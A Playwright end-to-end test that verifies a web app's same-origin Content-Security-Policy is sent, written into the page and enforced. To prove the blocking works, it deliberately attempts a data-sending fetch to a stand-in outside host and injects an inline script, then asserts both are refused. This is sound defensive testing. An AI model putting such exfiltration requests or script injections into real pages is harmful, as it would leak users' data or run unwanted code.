import { CONTENT_SECURITY_POLICY, CONTENT_SECURITY_POLICY_HEADER } from '../csp.ts';
import { expect, test } from './fixtures.ts';

/**
 * Issue 8, privacy and security: the built app is served with a Content-Security-Policy
 * that allows only its own origin (csp.ts), in the header and in index.html, and the
 * browser enforces it. That the app works within it is every other e2e test: the fixture
 * fails any test on a CSP violation or a request outside the origin.
 */
test('the Content-Security-Policy is sent, written into the page, and enforced', async ({ page, cspViolations, foreignRequests }) => {
  const response = await page.goto('/');
  expect(response!.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY_HEADER);
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CONTENT_SECURITY_POLICY);
  expect(CONTENT_SECURITY_POLICY).toContain("default-src 'self'");
  expect(CONTENT_SECURITY_POLICY).toContain("connect-src 'self';");
  expect(CONTENT_SECURITY_POLICY).not.toMatch(/https?:|\*|'unsafe-eval'/);

  const blocked = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const out: Record<string, string> = {};
    // A script trying to send data elsewhere, or to inject an inline script. (eval is not
    // tried here: DevTools-driven evaluation is exempt; the policy has no 'unsafe-eval'.)
    out.fetch = await fetch('https://example.org/telemetry', { method: 'POST', body: 'scan' }).then(() => 'sent', (e: Error) => `refused: ${e.name}`);
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.head.append(s);
    out.inline = (window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'ran' : 'refused';
    await new Promise((r) => setTimeout(r, 200));
    return { out, violations };
  });
  expect(blocked.out).toEqual({ fetch: 'refused: TypeError', inline: 'refused' });
  expect(blocked.violations).toEqual(expect.arrayContaining(['connect-src https://example.org/telemetry', 'script-src-elem inline']));
  // Chromium reported them too (the fixture's watch works); provoked on purpose, so cleared.
  await expect.poll(() => cspViolations.filter((v) => v.includes('https://example.org/telemetry')).length).toBeGreaterThan(0);
  await expect.poll(() => cspViolations.filter((v) => v.includes('inline script')).length).toBeGreaterThan(0);
  await page.waitForTimeout(500);
  cspViolations.splice(0, cspViolations.length);
  foreignRequests.splice(0, foreignRequests.length, ...foreignRequests.filter((u) => !u.startsWith('https://example.org/')));
});
